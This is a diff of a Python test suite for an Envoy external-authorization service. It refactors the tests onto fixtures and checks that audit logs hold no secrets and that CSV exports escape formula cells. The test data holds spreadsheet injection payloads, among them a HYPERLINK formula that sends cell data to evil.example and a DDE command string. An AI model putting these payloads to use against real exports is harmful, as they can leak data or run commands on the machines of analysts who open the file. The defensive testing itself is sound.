@@ -27,14 +27,14 @@ def csv_rows(text: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(text)))
 
 
-def test_every_decision_is_one_line_with_no_secret_and_readable_across_replicas(tmp_path: Path) -> None:
-    idp = LocalIssuer()
-    redis = RedisServer(tmp_path / "redis").start()
+def test_every_decision_is_one_line_with_no_secret_and_readable_across_replicas(
+    tmp_path: Path, issuer: LocalIssuer, redis: RedisServer
+) -> None:
     (tmp_path / "p.yaml").write_text("id: admin\nmatch: {paths: [{prefix: /admin/}]}\n"
                                      "require: {claims: {groups: [root]}}\n")
     store = {"url": redis.url, "prefix": "aud:"}
     service = ExtAuthz(tmp_path, {
-        "issuers": [{"issuer": idp.issuer, "audiences": [AUDIENCE]}], "store": store,
+        "issuers": [{"issuer": issuer.issuer, "audiences": [AUDIENCE]}], "store": store,
         "audit": {"redis_stream": True, "flush_interval": 0.05}, "token": {"cookie": "session"},
         "default_action": "authenticated"}, args=["--workers", "2"])
     # Redis holds the policies here: apply them first
@@ -46,8 +46,8 @@ def test_every_decision_is_one_line_with_no_secret_and_readable_across_replicas(
     gateway = Gateway(tmp_path, service).start()
     secrets: list[str] = []
     try:
-        alice = idp.mint("ES256", jti="alice-token")
-        bob = idp.mint("ES256", sub="bob", email="bob@example.com")
+        alice = issuer.mint("ES256", jti="alice-token")
+        bob = issuer.mint("ES256", sub="bob", email="bob@example.com")
         secrets += [alice, bob, alice.split(".")[2], bob.split(".")[2]]
         requests = [
             ("/ok?secret_query=hunter2", {"authorization": f"Bearer {alice}"}, 200),
@@ -69,7 +69,7 @@ def test_every_decision_is_one_line_with_no_secret_and_readable_across_replicas(
         first = next(ln for ln in lines if ln["path"] == "/ok")
         assert UUID(first["request_id"])  # made by Envoy
         assert first["decision"] == "allow"
-        assert (first["subject"], first["issuer"], first["client_id"]) == ("alice", idp.issuer, "cli")
+        assert (first["subject"], first["issuer"], first["client_id"]) == ("alice", issuer.issuer, "cli")
         assert (first["method"], first["path"], first["status"]) == ("GET", "/ok", 200)
         assert first["source"]  # Envoy's peer address
         denied = next(ln for ln in lines if ln["path"] == "/admin/x")
@@ -96,8 +96,6 @@ def test_every_decision_is_one_line_with_no_secret_and_readable_across_replicas(
     finally:
         gateway.stop()
         service.stop()
-        redis.stop()
-        idp.close()
 
 
 def test_the_audit_commands_say_they_need_redis(tmp_path: Path) -> None:
@@ -147,14 +145,14 @@ def test_a_csv_cell_that_would_start_a_formula_is_quoted_as_text(value: object, 
     assert csv_cell(value) == cell
 
 
-def test_a_client_cannot_put_a_formula_into_the_exported_audit_trail(tmp_path: Path) -> None:
+def test_a_client_cannot_put_a_formula_into_the_exported_audit_trail(
+    tmp_path: Path, issuer: LocalIssuer, redis: RedisServer
+) -> None:
     """x-request-id, Host and a token's sub are chosen by clients and users: through the gateway
     the id is Envoy's own, and in `audit export --format csv` no cell starts a formula."""
-    idp = LocalIssuer()
-    redis = RedisServer(tmp_path / "redis").start()
     store = {"url": redis.url, "prefix": "csv:"}
     service = ExtAuthz(tmp_path, {
-        "issuers": [{"issuer": idp.issuer, "audiences": [AUDIENCE]}], "store": store,
+        "issuers": [{"issuer": issuer.issuer, "audiences": [AUDIENCE]}], "store": store,
         "audit": {"redis_stream": True, "flush_interval": 0.05},
         "default_action": "authenticated"})
     config = tmp_path / "cli.yaml"
@@ -164,7 +162,7 @@ def test_a_client_cannot_put_a_formula_into_the_exported_audit_trail(tmp_path: P
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Open report")'
     sub = "=cmd|' /C calc'!A0"
     try:
-        token = idp.mint("ES256", sub=sub)
+        token = issuer.mint("ES256", sub=sub)
         assert gateway.get("/ok", {"x-request-id": formula,
                                    "authorization": f"Bearer {token}"}).status == 200
         assert gateway.get("/host", {"x-request-id": formula, "host": "=1+2"}).status == 400
@@ -187,34 +185,28 @@ def test_a_client_cannot_put_a_formula_into_the_exported_audit_trail(tmp_path: P
     finally:
         gateway.stop()
         service.stop()
-        redis.stop()
-        idp.close()
 
 
 def test_the_export_escapes_every_client_chosen_cell_even_when_the_gateway_did_not(
-    tmp_path: Path
+    tmp_path: Path, redis: RedisServer
 ) -> None:
     """A stream written by a gateway that keeps clients' x-request-id (or by a mesh sidecar)."""
-    redis = RedisServer(tmp_path / "redis").start()
-    try:
-        record = {name: None for name in FIELDS}
-        record.update(time="2026-11-23T10:00:00.000Z", decision="deny", status=401,
-                      reason="token_missing", method="GET", host="-2+3", path="/@x",
-                      subject="@SUM(A1:A9)", request_id='=HYPERLINK("https://evil.example")',
-                      source="+1", username="\t=1")
-        redis.client().xadd("extauthz:audit", {"record": json.dumps(record)})
-        config = tmp_path / "cli.yaml"
-        config.write_text(yaml.safe_dump({"store": {"url": redis.url}}))
-        export = run_cli(config, "audit", "export", "--since", "0", "--format", "csv")
-        assert export.returncode == 0, export.stderr
-        (row,) = csv_rows(export.stdout)
-        assert (row["host"], row["subject"], row["request_id"], row["source"], row["username"]) == (
-            "'-2+3", "'@SUM(A1:A9)", '\'=HYPERLINK("https://evil.example")', "'+1", "'\t=1")
-        assert (row["path"], row["status"], row["decision"]) == ("/@x", "401", "deny")
-        exported = run_cli(config, "audit", "export", "--since", "0", "--format", "json")
-        assert json.loads(exported.stdout) == record
-    finally:
-        redis.stop()
+    record = {name: None for name in FIELDS}
+    record.update(time="2026-11-23T10:00:00.000Z", decision="deny", status=401,
+                  reason="token_missing", method="GET", host="-2+3", path="/@x",
+                  subject="@SUM(A1:A9)", request_id='=HYPERLINK("https://evil.example")',
+                  source="+1", username="\t=1")
+    redis.client().xadd("extauthz:audit", {"record": json.dumps(record)})
+    config = tmp_path / "cli.yaml"
+    config.write_text(yaml.safe_dump({"store": {"url": redis.url}}))
+    export = run_cli(config, "audit", "export", "--since", "0", "--format", "csv")
+    assert export.returncode == 0, export.stderr
+    (row,) = csv_rows(export.stdout)
+    assert (row["host"], row["subject"], row["request_id"], row["source"], row["username"]) == (
+        "'-2+3", "'@SUM(A1:A9)", '\'=HYPERLINK("https://evil.example")', "'+1", "'\t=1")
+    assert (row["path"], row["status"], row["decision"]) == ("/@x", "401", "deny")
+    exported = run_cli(config, "audit", "export", "--since", "0", "--format", "json")
+    assert json.loads(exported.stdout) == record
 
 
 @pytest.mark.parametrize("name", ["gateway.yaml", "kube-apiserver.yaml"])
